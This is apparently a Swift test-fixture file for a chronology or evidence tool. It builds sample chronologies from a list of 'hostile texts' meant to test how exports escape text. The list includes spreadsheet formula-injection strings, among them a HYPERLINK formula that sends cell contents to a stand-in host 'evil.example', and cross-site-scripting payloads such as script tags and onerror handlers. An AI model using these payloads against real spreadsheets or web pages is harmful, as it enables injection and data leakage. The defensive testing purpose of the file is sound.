package import DaybookCore

extension SampleChronology {
  /// U+FFFE and U+FDD0, which a literal may not hold.
  private static let noncharacters = String(decoding: [0xEF, 0xBF, 0xBE, 0xEF, 0xB7, 0x90], as: UTF8.self)

  /// Words that try to break out of every format.
  package static let hostileTexts = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "'=already quoted",
    " =after a blank",
    "\t=after a tab", "\r\n=after a line end", "＝full width", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>", "' onmouseover='alert(1)", "--><!-- ]]>", "&lt;b&gt; &amp; &#60; &nbsp;",
    "</blockquote></li><li data-order=\"9\">",
    "javascript:alert(1) www.evil.example https://evil.example/a?b=c mail@evil.example",
    "English שלום עולم abc \u{202E}reversed\u{202C} \u{2067}isolated\u{2069}",
    "👩‍👩‍👧‍👦 🇬🇧 é e\u{301} ﬁ Ａ 漢字 ไทย \u{10FFFD}",
    "zero\u{200B}width\u{FEFF} soft\u{AD}hyphen no\u{A0}break", "one\r\ntwo\rthree\nfour\n\nsix\n",
    "\nleading and trailing  \n",
    "   blanks   inside\tand\t\ttabs   ", "back\\slash, comma; semicolon: \\n \\, \\;",
    "a|b|c `code` *bold* _em_ ~~x~~ $m$ [l](u) ![i](u)",
    "# heading\n## heading\n- list\n+ list\n1. one\n2) two\n===\n---\n> quote\n: x\n    code",
    "12. not a list", "[^s1]: SHA-256 0, x", "— \\[1.1\\] x, bytes 1–2[^s1]",
    "control \u{0}\u{1}\u{7}\u{8}\u{B}\u{C}\u{1B}[31m\u{7F}\u{80}\u{9F}\(noncharacters) end",
    "\u{2028}line\u{2029}separators\u{85}", "", " ",
    "BEGIN:VEVENT\r\nUID:x\r\nEND:VEVENT\r\n", "\"quoted\" ,\"\", and \"\"twice\"\"",
    "%00 %0d%0a ${x} {{x}} <%= x %>",
    String(repeating: "long words that have to be folded ééé ", count: 8),
    "\u{301}starts with a combining mark",
  ]

  /// Every hostile text as summary, quotation, party, file name, words of a date, and reason.
  package static var hostile: Chronology {
    var entries: [ChronologyEntry] = []
    let days = SampleDates.day(2021, 12, 30).dayNumber
    for (index, text) in hostileTexts.enumerated() {
      var one = entry(
        SampleDates.on(CivilDate(dayNumber: days + index / 2), text),
        EventKind.allCases[index % EventKind.allCases.count], text,
        parties: [body(text, .agent), body("B \(text)", .recipient), body(text, .mentioned)],
        source: "papers/\(text)",
        page: index % 3 == 0 ? index + 1 : nil, start: index * 1_000)
      one.when.why = [text, "second step"]
      one.context = text
      if index % 4 == 1 { one.evidence.append(evidence(text, source: text, page: 2, start: 7)) }
      if index % 5 == 2 { one.when = EventDate(timex: nil, basis: nil, text: text) }
      if index % 7 == 3 { one.evidence[0].alsoAt = [text, "other/\(text)"] }
      entries.append(one)
    }
    var chronology = make(
      "</title><script>alert(1)</script> =1+1 “title”", entries, scope: ["party <b>ICO</b>", "=from 2022"])
    for text in hostileTexts {
      chronology.ledger.add(Ledger.Row(path: text, outcome: .failed, reason: text, pages: 1))
      chronology.ledger.findings.append(Finding("odd-name", .note, text, path: text))
    }
    return chronology
  }

  /// Entries of every shape of date and text, the same for the same seed.
  package static func random(seed: UInt64, count: Int) -> Chronology {
    var generator = SeededGenerator(seed: seed)
    var entries: [ChronologyEntry] = []
    for index in 0..<count {
      var one = entry(
        randomDate(&generator),
        EventKind.allCases[Int.random(in: 0..<EventKind.allCases.count, using: &generator)],
        randomText(&generator), quote: randomText(&generator),
        source: "papers/\(index % 9) \(randomText(&generator))",
        page: Bool.random(using: &generator) ? Int.random(in: 1...900, using: &generator) : nil,
        start: index * 31)
      while Int.random(in: 0..<3, using: &generator) == 0 {
        one.evidence.append(evidence(randomText(&generator), source: "papers/\(index % 5).txt", start: index))
      }
      entries.append(one)
    }
    return make("Random \(seed)", entries)
  }

  private static func randomText(_ generator: inout SeededGenerator) -> String {
    var text = ""
    for _ in 0..<Int.random(in: 0..<6, using: &generator) {
      let words = hostileTexts[Int.random(in: 0..<hostileTexts.count, using: &generator)]
      text += String(words.prefix(Int.random(in: 0..<30, using: &generator)))
    }
    return text
  }

  private static func randomDate(_ generator: inout SeededGenerator) -> EventDate {
    let first = CivilDate(dayNumber: Int.random(in: 0..<20_000, using: &generator))
    let last = first.adding(days: Int.random(in: 0..<400, using: &generator))
    switch Int.random(in: 0..<8, using: &generator) {
    case 0: return .undated
    case 1: return SampleDates.on(first)
    case 2: return SampleDates.between(first, nil)
    case 3: return SampleDates.between(nil, last)
    case 4:
      return EventDate(
        timex: Timex(
          from: first, to: last,
          grain: Grain.allCases[Int.random(in: 0..<Grain.allCases.count, using: &generator)]),
        basis: .relative)
    case 5:
      return SampleDates.month(
        first.year, first.month, Timex.Modifier.allCases.randomElement(using: &generator))
    case 6:
      return SampleDates.at(
        first, Int.random(in: 0..<24, using: &generator), Int.random(in: 0..<60, using: &generator),
        offset: Bool.random(using: &generator) ? Int.random(in: -900...900, using: &generator) : nil)
    default:
      return EventDate(
        timex: Timex(
          earliest: nil, latest: nil, grain: .day,
          yearless: Timex.Yearless(month: first.month, day: first.day)),
        basis: .explicit)
    }
  }
}
